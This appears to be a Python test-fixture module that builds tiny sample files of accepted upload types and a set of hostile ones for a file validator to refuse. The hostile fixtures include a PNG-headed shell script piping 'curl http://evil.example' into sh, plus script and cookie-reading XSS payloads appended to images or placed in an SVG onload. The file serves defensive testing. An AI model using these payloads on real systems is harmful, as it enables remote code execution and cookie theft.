"""Small files of every accepted type, and hostile ones, built here (no committed blobs)."""

from __future__ import annotations

import struct
import zlib


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 1, height: int = 1) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(raw))
        + _png_chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 1, 1, 1) + b"\x01\x11\x00"
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + app0 + sof0 + sos + b"\x12\x34\x56" + b"\xff\xd9"


def gif() -> bytes:
    screen = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    return screen + b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


def _riff(form: bytes, body: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + form + body


def webp() -> bytes:
    payload = b"\x00" * 10
    return _riff(b"WEBP", b"VP8 " + struct.pack("<I", len(payload)) + payload)


def wav() -> bytes:
    fmt = struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)
    samples = b"\x00\x00" * 8
    return _riff(
        b"WAVE", b"fmt " + struct.pack("<I", len(fmt)) + fmt + b"data" + struct.pack("<I", 16) + samples
    )


def mp3(frames: int = 3, id3: bool = True) -> bytes:
    # MPEG-1 layer III, 128 kbps, 44.1 kHz, no padding: 417 bytes a frame
    frame = b"\xff\xfb\x90\x00" + b"\x00" * 413
    tag = b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10 if id3 else b""
    return tag + frame * frames


def ogg() -> bytes:
    body = b"\x01vorbis" + b"\x00" * 22
    header = b"OggS\x00\x02" + b"\x00" * 8 + b"\x01\x00\x00\x00" + b"\x00" * 8 + bytes([1, len(body)])
    return header + body


def webm() -> bytes:
    doc_type = b"\x42\x82\x84webm"
    ebml = b"\x42\x86\x81\x01" + b"\x42\xf7\x81\x01" + doc_type
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(ebml)]) + ebml + b"\x18\x53\x80\x67\x80"


def pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def text() -> bytes:
    return "Notes: héllo wörld ✓\n\tindented line\r\n".encode()


# -- hostile ---------------------------------------------------------------------------------


def png_header_on_a_script() -> bytes:
    return b"\x89PNG\r\n\x1a\n#!/bin/sh\ncurl http://evil.example | sh\n"


def png_with_a_script_after_iend() -> bytes:
    return png() + b"<script>alert(1)</script>"


def png_with_a_bad_crc() -> bytes:
    good = bytearray(png())
    good[29] ^= 0xFF  # inside IHDR's CRC
    return bytes(good)


def gif_with_a_script_after_the_trailer() -> bytes:
    return gif() + b"alert(document.cookie);"


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44


def windows_exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 20


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>fetch('/api/v1/attachments')</script></body></html>"


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def zip_archive() -> bytes:
    return b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 20


def binary_with_nul() -> bytes:
    return b"plain start\x00then binary"


def latin1_text() -> bytes:
    return "caf\xe9 cr\xe8me".encode("latin-1")


ACCEPTED = {
    "image/png": png,
    "image/jpeg": jpeg,
    "image/gif": gif,
    "image/webp": webp,
    "audio/wav": wav,
    "audio/mpeg": mp3,
    "audio/ogg": ogg,
    "audio/webm": webm,
    "application/pdf": pdf,
    "text/plain": text,
}

REFUSED = {
    "png header on a script": png_header_on_a_script,
    "png with a script after IEND": png_with_a_script_after_iend,
    "png with a bad CRC": png_with_a_bad_crc,
    "gif with a script after the trailer": gif_with_a_script_after_the_trailer,
    "ELF executable": elf,
    "Windows executable": windows_exe,
    "HTML": html,
    "SVG": svg,
    "zip": zip_archive,
    "binary with NUL": binary_with_nul,
    "latin-1 text": latin1_text,
}
